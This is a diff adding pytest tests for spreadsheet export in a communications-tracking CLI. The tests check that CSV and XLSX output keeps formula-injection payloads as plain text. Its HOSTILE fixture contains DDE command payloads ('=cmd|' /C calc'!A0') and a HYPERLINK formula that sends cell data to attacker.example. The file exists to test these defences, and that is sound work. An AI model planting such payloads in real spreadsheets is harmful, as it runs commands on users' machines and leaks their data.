@@ -6,8 +6,12 @@ Each test opens the file the way the other tool does and looks at what it sees.
 
 from __future__ import annotations
 
+import csv
 import email
 import io
+import shutil
+import subprocess
+from datetime import date
 from email import policy
 
 import docx
@@ -267,3 +271,151 @@ def test_calendar_alarm_days_from_the_profile(diary, tmp_path):
         "Error: commresp.toml: calendar.alarm_days must be a whole number of days from 0 to 60, "
         "e.g. 3\n"
     )
+
+
+# --- spreadsheets --------------------------------------------------------------------------
+
+HOSTILE = {
+    "AL BEL 1/2025": "=cmd|' /C calc'!A0",
+    "AL BEL 2/2025": "Trafficking;=1+1;case",
+    "AL BEL 3/2025": '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+    "AL BEL 4/2025": 'Siobhán Ó Briain, Łukasz; ‘quotes’ and "quotes", tab\tin',
+    "AL BEL 5/2025": "-3",
+    "AL BEL 6/2025": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture
+def sheet_record(run):
+    for i, (ref, subject) in enumerate(HOSTILE.items(), start=1):
+        run(
+            "register",
+            ref,
+            "--date",
+            f"2025-07-{i:02d}",
+            "--mandate",
+            "torture",
+            "--subject",
+            subject,
+        )
+    return run
+
+
+def soffice_convert(csv_path, out_dir, infilter=None):
+    """LibreOffice Calc, headless, opens the CSV (with the import options given, as its
+    Text Import dialog would) and saves it as .xlsx; the result read with openpyxl."""
+    import openpyxl
+
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    if soffice is None:
+        pytest.skip("LibreOffice is not installed (CI installs libreoffice-calc-nogui)")
+    profile = out_dir / "lo-profile"
+    args = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
+    if infilter:
+        args.append(f"--infilter={infilter}")
+    args += ["--convert-to", "xlsx", "--outdir", str(out_dir), str(csv_path)]
+    done = subprocess.run(args, capture_output=True, text=True, timeout=120)
+    converted = out_dir / (csv_path.stem + ".xlsx")
+    if not converted.exists():
+        pytest.fail(f"LibreOffice did not convert: {done.stdout} {done.stderr}")
+    return openpyxl.load_workbook(converted).active
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "separator,infilter",
+    [(",", "CSV:44,34,76,1"), (";", "CSV:59,34,76,1"), ("tab", "CSV:9,34,76,1")],
+)
+def test_csv_in_libreoffice_calc_runs_no_formula(sheet_record, tmp_path, separator, infilter):
+    out = tmp_path / "communications.csv"
+    sheet_record("export", "--format", "csv", "-o", str(out))
+    sheet = soffice_convert(out, tmp_path, infilter)
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    formulas = [c.value for c in cells if c.data_type == "f"]
+    assert formulas == [], f"Calc set to {separator!r} reads formulas: {formulas}"
+    if separator == ",":
+        rows = [[c.value for c in row] for row in sheet.iter_rows()]
+        header = rows[0]
+        assert header[0] == "reference"  # the BOM is read as such, not as text
+        subjects = {r[0]: r[header.index("subject")] for r in rows[1:]}
+        # Calc shows the text as it is, the apostrophe only before what would have run
+        assert subjects["AL BEL 4/2025"] == HOSTILE["AL BEL 4/2025"]
+        assert subjects["AL BEL 2/2025"] == "Trafficking;'=1+1;case"
+        assert subjects["AL BEL 1/2025"] == "'" + HOSTILE["AL BEL 1/2025"]
+        assert subjects["AL BEL 5/2025"] == -3  # a number, not a formula: left alone
+        dates = {r[0]: r[header.index("date")] for r in rows[1:]}
+        assert dates["AL BEL 1/2025"].date() == date(2025, 7, 1)  # read as a real date
+
+
+def test_csv_quotes_every_field_and_reads_back_in_python(sheet_record):
+    data = sheet_record("export", "--format", "csv").stdout_bytes
+    assert data.startswith(b'\xef\xbb\xbf"reference",')
+    lines = data.decode("utf-8-sig").split("\r\n")
+    assert all(line.startswith('"') and line.endswith('"') for line in lines if line)
+    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
+    assert rows["AL BEL 4/2025"]["subject"] == HOSTILE["AL BEL 4/2025"]
+    assert rows["AL BEL 6/2025"]["subject"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_xlsx_export_read_back_with_openpyxl(sheet_record, tmp_path):
+    import openpyxl
+
+    out = tmp_path / "communications.xlsx"
+    result = sheet_record("export", "--format", "xlsx", "-o", str(out))
+    assert f"Wrote {out}" in result.output
+    book = openpyxl.load_workbook(out)
+    sheet = book.active
+    assert sheet.freeze_panes == "A2"
+    header = [c.value for c in sheet[1]]
+    assert header[:4] == ["reference", "date", "type", "mandates"]
+    assert all(c.font.bold for c in sheet[1])
+    rows = {r[0].value: {h: c for h, c in zip(header, r, strict=True)} for r in sheet.iter_rows(2)}
+    assert set(rows) == set(HOSTILE)
+    for ref, subject in HOSTILE.items():
+        cell = rows[ref]["subject"]
+        assert cell.data_type == "s", (ref, cell.data_type)  # text, never a formula
+        assert cell.value == subject  # exactly as typed: no apostrophe
+    letter = rows["AL BEL 1/2025"]["date"]
+    assert letter.is_date and letter.value.date() == date(2025, 7, 1)
+    assert letter.number_format == "yyyy-mm-dd"
+    assert rows["AL BEL 1/2025"]["reply_due"].value.date() == date(2025, 8, 30)
+    assert rows["AL BEL 1/2025"]["on_time"].value is None
+    widths = {h: sheet.column_dimensions[chr(ord("A") + i)].width for i, h in enumerate(header)}
+    assert widths["subject"] > widths["type"] >= 10
+    assert widths["subject"] <= 62
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+
+@pytest.mark.slow
+def test_xlsx_opens_in_libreoffice_without_formulas(sheet_record, tmp_path):
+    out = tmp_path / "communications.xlsx"
+    sheet_record("export", "--format", "xlsx", "-o", str(out))
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        pytest.skip("LibreOffice is not installed (CI installs libreoffice-calc-nogui)")
+    profile = (tmp_path / "lo-profile").as_uri()
+    subprocess.run(
+        [
+            soffice,
+            f"-env:UserInstallation={profile}",
+            "--headless",
+            "--convert-to",
+            "csv",
+            "--outdir",
+            str(tmp_path / "back"),
+            str(out),
+        ],
+        capture_output=True,
+        timeout=120,
+        check=True,
+    )
+    back = (tmp_path / "back" / "communications.csv").read_bytes().decode("utf-8", "replace")
+    # Calc saved what it computed: a formula would have left its result, not its text
+    assert HOSTILE["AL BEL 2/2025"] in back
+    assert "=cmd|' /C calc'!A0" in back
+
+
+def test_xlsx_goes_to_standard_output_when_it_is_not_a_terminal(sheet_record):
+    # CliRunner's output is not a terminal: the bytes go to standard output
+    data = sheet_record("export", "--format", "xlsx").stdout_bytes
+    assert data.startswith(b"PK")
